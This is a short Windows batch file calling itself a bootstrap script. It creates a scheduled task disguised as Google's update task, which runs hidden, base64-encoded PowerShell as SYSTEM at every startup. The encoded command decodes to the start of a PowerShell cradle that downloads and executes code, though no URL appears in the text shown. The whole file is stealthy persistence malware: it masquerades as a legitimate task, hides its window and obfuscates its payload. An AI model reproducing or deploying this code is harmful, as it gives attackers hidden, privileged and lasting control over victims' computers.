REM bootstrap 0622 v0
@echo off
set umsy=schtasks /create /tn "GoogleUpdateTaskMachine" /tr "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA" /sc onstart /ru SYSTEM /f
call %umsy%
